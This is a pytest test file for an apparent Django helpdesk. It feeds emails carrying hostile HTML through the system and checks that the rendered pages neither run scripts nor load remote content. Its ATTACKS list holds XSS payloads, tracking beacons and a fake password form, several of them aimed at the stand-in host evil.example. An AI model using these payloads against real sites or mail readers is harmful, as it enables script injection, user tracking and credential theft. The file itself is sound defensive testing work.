"""A hostile mail goes the whole way: through the ledger into a conversation and out to a browser."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from sahay.business.models import Staff
from sahay.channels.email.models import Mailbox
from sahay.channels.tests.boxes import help_box
from sahay.channels.tests.mails import arrive
from sahay.conversations.models import Message

__all__ = ["help_box"]

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='java\tscript:alert(1)'>x</a><a href='vbscript:x'>y</a><a href='data:text/html,x'>z</a>",
    "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/y'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'><link rel=dns-prefetch href='//evil.example'>",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
    "<div style=\"background:url('https://evil.example/c');position:fixed;top:0;left:0\">x</div>",
    "<div style='background-image:u\\72l(https://evil.example/d)'>x</div>",
    "<img src=https://evil.example/e.png srcset='https://evil.example/f.png 2x' lowsrc=//evil.example/g>",
    "<picture><source srcset=//evil.example/h><img src=//evil.example/i></picture>",
    "<video poster=https://evil.example/j src=https://evil.example/k autoplay></video>",
    "<audio src=https://evil.example/l autoplay></audio><track src=//evil.example/m>",
    "<table background='https://evil.example/n'><tr><td background=//evil.example/o>x</table>",
    "<form action='https://evil.example/p'><input name=password><button>Sign in</button></form>",
    "<body onload=alert(1) background=https://evil.example/q>x</body>",
    "<a href='https://evil.example/r' ping='https://evil.example/s' target=_top>x</a>",
    "</div></main></body></html><html><body><h1>Signed out</h1>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
    "<svg><use href='https://evil.example/t#x'/><image href='https://evil.example/u'/></svg>",
    "<img data-remote='https://evil.example/v\" onerror=\"alert(1)'>",
]
LOADS = {"src", "srcset", "poster", "background", "data", "lowsrc", "ping", "manifest", "xlink:href"}
RUNS = {
    "script",
    "iframe",
    "object",
    "embed",
    "meta",
    "base",
    "link",
    "form",
    "input",
    "svg",
    "math",
    "style",
}


class Reader(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = Reader()
    reader.feed(html)
    return reader.found


def letter_with(html: str) -> bytes:
    return (
        b"From: Sara <sara@example.org>\r\nTo: help@lotus.example\r\nSubject: Look\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Hello there</p>" + html.encode() + b"\r\n"
    )


@pytest.fixture(params=ATTACKS, ids=range(len(ATTACKS)))
def hostile(request: pytest.FixtureRequest, help_box: Mailbox) -> Message:
    """A mail that attacks, filed like any other."""
    row = arrive(letter_with(request.param))
    assert row.message is not None
    return row.message


def test_nothing_in_it_runs_or_is_fetched_before_a_click(
    client: Client, ada: Staff, hostile: Message
) -> None:
    client.force_login(ada)
    url = reverse("conversations:as_sent", args=[hostile.conversation_id, hostile.pk])
    answer = client.get(url)
    body = answer.content.decode().split("<body", 1)[1]
    for tag, attributes in elements("<body" + body):
        assert tag not in RUNS, (tag, attributes)
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in LOADS & attributes.keys():
            assert attributes[name].startswith(("data:image/", "cid:")) or not attributes[name], attributes
        assert urlsplit(attributes.get("href", "")).scheme in {"", "http", "https", "mailto", "tel"}
        assert "url(" not in attributes.get("style", "").lower(), attributes
    policy = answer.headers["Content-Security-Policy"]
    assert "img-src 'self' data:;" in policy
    assert "default-src 'none'" in policy
    assert "form-action 'none'" in policy


def test_after_the_click_only_pictures_are_fetched(client: Client, ada: Staff, hostile: Message) -> None:
    client.force_login(ada)
    url = reverse("conversations:as_sent", args=[hostile.conversation_id, hostile.pk])
    answer = client.get(url, {"remote": "1"})
    body = answer.content.decode().split("<body", 1)[1]
    for tag, attributes in elements("<body" + body):
        assert tag not in RUNS, (tag, attributes)
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert tag == "img" or not LOADS & attributes.keys(), (tag, attributes)
    policy = answer.headers["Content-Security-Policy"]
    assert "img-src 'self' data: https:;" in policy
    assert "allow-scripts" not in policy


def test_no_page_of_the_desk_holds_a_word_of_its_html(client: Client, ada: Staff, hostile: Message) -> None:
    """The page shows the readable text and a frame; so nothing can restyle or leave the frame."""
    client.force_login(ada)
    talk = hostile.conversation_id
    for url in (
        reverse("desk:conversation", args=[talk]),
        reverse("desk:inbox"),
        reverse("desk:search") + "?q=hello",
        reverse("desk:history", args=[talk]),
    ):
        html = client.get(url).content.decode()
        for tag, attributes in elements(html):
            assert not [name for name in attributes if name.startswith("on")], (url, tag, attributes)
            assert "style" not in attributes, (url, tag)
            if tag in {"script", "iframe", "link", "form", "img", "object", "embed", "use"}:
                for name in {"src", "href", "action", "data"} & attributes.keys():
                    assert not urlsplit(attributes[name]).netloc, (url, tag, attributes)
        assert html.count("<main") == html.count("</main>") == 1
        assert "<style" not in html
